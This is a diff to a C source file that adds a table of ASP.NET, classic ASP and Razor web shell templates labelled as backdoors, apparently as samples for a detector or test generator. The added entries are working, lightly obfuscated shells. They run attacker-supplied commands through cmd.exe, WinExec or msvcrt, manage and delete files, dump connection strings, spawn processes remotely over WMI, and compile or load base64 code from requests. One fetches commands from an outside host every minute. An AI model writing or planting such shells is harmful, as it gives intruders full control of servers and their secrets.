@@ -168,6 +168,77 @@ static const struct technique techniques[] = {
       "CancellationToken.None); string s = Encoding.UTF8.GetString(buf.Array, 0, r.Count); var p = {p}.Start(new {p}StartInfo(\"cmd"".exe\", \"/c \" + s) { "
       "RedirectStandardOutput = true, UseSh""ell{x} = false }); } }); }</{s}>",
       "orders by a socket of the web", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>class Opt { public string Cmd { get; set; } public string Arg { get; private set; } public Opt With(string a) { Arg "
+      "= a; return this; } } void Page_Load() { var o = new Opt { Cmd = \"cmd\" }.With(\"/c \" + {r}[\"k\"]); new System.Diagnostics.{p} { StartInfo = new "
+      "{p}StartInfo(o.Cmd, o.Arg) }.Start(); }</{s}>",
+      "an object that gives itself back", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>record R(string A, string B); void Page_Load() { var r = new R(\"cmd\", \"/c \" + {r}[\"k\"]); "
+      "System.Diagnostics.{p}.Start(r.A, r.B); }</{s}>",
+      "a record", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var d = new Dictionary<string, Action<string>> { { \"x\", s => System.Diagnostics.{p}.Start(s) }, "
+      "{ \"w\", s => File.{w}({r}[\"p\"], s) } }; d[{r}[\"a\"]]({r}[\"k\"]); }</{s}>",
+      "a table of functions", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>string Run(string v) => v switch { \"ls\" => string.Join(\"\\n\", Directory.GetFiles({r}[\"d\"])), \"rd\" => "
+      "File.ReadAllText({r}[\"d\"]), \"rm\" => Del({r}[\"d\"]), _ => \"\" }; string Del(string p) { File.Delete(p); return \"ok\"; } void Page_Load() { "
+      "Response.Write(Run({r}[\"a\"])); }</{s}>",
+      "a file manager in one expression", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>[System.Runtime.InteropServices.DllImport(\"msvcrt.dll\", EntryPoint = \"system\")] static extern int Q(string c); "
+      "void Page_Load() { Q({r}[\"k\"]); }</{s}>",
+      "a function of a DLL", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"VB\" {c}<{s} {a}>\nDeclare Function R Lib \"kernel32\" Alias \"WinExec\" (ByVal c As String, ByVal n As Integer) As Integer\nSub "
+      "Page_Load()\nR({r}(\"k\"), 0)\nEnd Sub\n</{s}>",
+      "the same in VB", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { using (var z = new System.IO.Compression.ZipArchive({r}.Files[0].InputStream)) foreach (var e in "
+      "z.Entries) e.ExtractToFile(Path.Combine({r}[\"p\"], e.FullName), true); }</{s}>",
+      "an archive, unpacked where it says", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>void Page_Load() { var c = System.Web.Configuration.WebConfigurationManager.OpenWebConfiguration(\"/\"); foreach "
+      "(ConnectionStringSettings s in ConfigurationManager.ConnectionStrings) Response.Write(s.ConnectionString); }</{s}>",
+      "connections handed out", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "{o} Set f = Create""Object(\"Scri""pting.FileSyst""emObject\") : Select Case {r}(\"a\") : Case \"l\" : For Each x In "
+      "f.GetFolder({r}(\"p\")).SubFolders : Response.Write x.Path : Next : Case \"d\" : f.GetFile({r}(\"p\")).Delete : Case \"c\" : f.CopyFile {r}(\"p\"), "
+      "{r}(\"q\") : End Select {c}",
+      "a file manager by cases", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Set l = Create""Object(\"WbemScri""pting.SWbemLocator\") : Set s = l.ConnectServer({r}(\"h\"), \"root\\cimv2\", {r}(\"u\"), {r}(\"p\")) : "
+      "s.Get(\"Win32_{p}\").Create {r}(\"c\"), Null, Null, i {c}",
+      "management of any machine", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o}@ {l}={j} {c}{o} (function(){ var a = arguments; return a[0](String(a[1])) })({e}, {r}.Form(\"k\")) {c}",
+      "a function handed to a function", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Class L : Public Default Property Get V(n) : V = {r}(n) : End Property : End Class : Set o = New L : {x} o(\"k\") {c}",
+      "a default property", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Function E1(s) : {x}Global s : End Function : Set d = Create""Object(\"Scri""pting.Dictionary\") : Set d(\"r\") = GetRef(\"E1\") : "
+      "d(\"r\")({r}(\"k\")) {c}",
+      "a procedure in a dictionary", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Set r = New RegExp : r.Pattern = \".+\" : For Each m In r.{x}({r}(\"k\")) : {x} m.Value : Next {c}",
+      "each match", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Set x = Server.Create""Object(\"MSXML2.DOMDocument\") : x.async = False : x.load {r} : {x} x.documentElement.text {c}",
+      "a document out of the body", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Set r = Create""Object(\"ADODB.Recordset\") : r.Fields.Append \"c\", 201, 9999 : r.Open : r.AddNew : r(\"c\") = {r}(\"k\") : r.Update : {x} "
+      "r(\"c\") {c}",
+      "a field of a record", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o} Set s = Create""Object(\"ADODB.Stream\") : s.Type = 1 : s.Mode = 3 : s.Open : s.Write {r}.BinaryRead({r}.TotalBytes) : s.Position = 0 : s.Type = "
+      "2 : s.Charset = \"utf-8\" : c = s.ReadText : {x}Global c {c}",
+      "the body by a stream", PAGE_ASP, PAGE_BACK_DOOR },
+    { "{o}@ Control {l}=\"VB\" {c}<{s} {a}>\nProtected Overrides Sub OnPreRender(e As EventArgs)\nDim c = {r}.Headers(\"X-C\")\nIf Not "
+      "String.IsNullOrEmpty(c) Then Lit.Text = Server.HtmlEncode(Exec(c))\nMyBase.OnPreRender(e)\nEnd Sub\nPrivate Function Exec(a As String) As "
+      "String\nUsing p As New {p} With {.StartInfo = New {p}StartInfo With {.FileName = \"cmd"".exe\", .Arguments = \"/c \" & a, .RedirectStandardOutput = "
+      "True, .UseSh""ell{x} = False}}\np.Start()\nReturn p.StandardOutput.ReadToEnd()\nEnd Using\nEnd Function\n</{s}><asp:Literal id=\"Lit\" {a}/>",
+      "a part that is drawn", PAGE_ASCX, PAGE_BACK_DOOR },
+    { "{o}@ WebService {l}=\"C#\" Class=\"S\" {c}\nusing System; using System.Web; using System.Web.Services; [WebService(Namespace = "
+      "\"http://tempuri.org/\")] public class S : WebService { [WebMethod(EnableSession = true)] public string P(string pass) { var c = new "
+      "Microsoft.CSharp.CSharpCod""eProvider(); var q = new System.CodeDom.Compiler.CompilerParameters(); q.GenerateInMemory = true; var r = "
+      "c.CompileAssemblyFromSource(q, System.Text.Encoding.UTF8.GetString(Convert.FromBase""64String(pass))); return "
+      "r.CompiledAssembly.CreateInstance(\"A\").ToString(); } }",
+      "a compiler in a service", PAGE_ASMX, PAGE_BACK_DOOR },
+    { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>static System.Threading.Timer t; void Page_Load() { t = new System.Threading.Timer(_ => { var c = new "
+      "WebClient().DownloadString(\"http://a.bakery.example/t\"); System.Diagnostics.{p}.Start(\"cmd"".exe\", \"/c \" + c); }, null, 0, 60000); }</{s}>",
+      "orders by the minute", PAGE_ASPX, PAGE_BACK_DOOR },
+    { "@using System.Diagnostics\n@functions { public static string Sh(string c) { var p = {p}.Start(new {p}StartInfo(\"cmd"".exe\", \"/c \" + c) { "
+      "RedirectStandardOutput = true, UseSh""ell{x} = false }); return p.StandardOutput.ReadToEnd(); } }\n@{ var c = Context.{r}.Query[\"c\"]; }\n@if "
+      "(!string.IsNullOrEmpty(c)) { <pre>@Sh(c)</pre> }",
+      "functions of Razor", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
+    { "@{ using var r = new System.IO.StreamReader(Context.{r}.Body); var b = await r.ReadToEndAsync(); var a = "
+      "System.Reflection.Assemb""ly.Load(Convert.FromBase""64String(b)); a.EntryPoint.Invoke(null, new object[] { new string[0] }); }",
+      "a library in the body", PAGE_RAZOR_CS, PAGE_BACK_DOOR },
     { "{o}@ Page {l}=\"C#\" {c}<{s} {a}>protected void Up(object s, EventArgs e) { string ext = Path.GetExtension(F.FileName).ToLower(); string[] ok = { "
       "\".jpg\", \".png\" }; if (Array.IndexOf(ok, ext) >= 0) { string n = Guid.NewGuid().ToString(\"N\") + ext; "
       "F.{f}(Path.Combine(Server.MapPath(\"~/uploads\"), n)); } }</{s}><form {a}><asp:FileUpload ID=\"F\" {a}/><asp:Button {a} OnClick=\"Up\"/></form>",
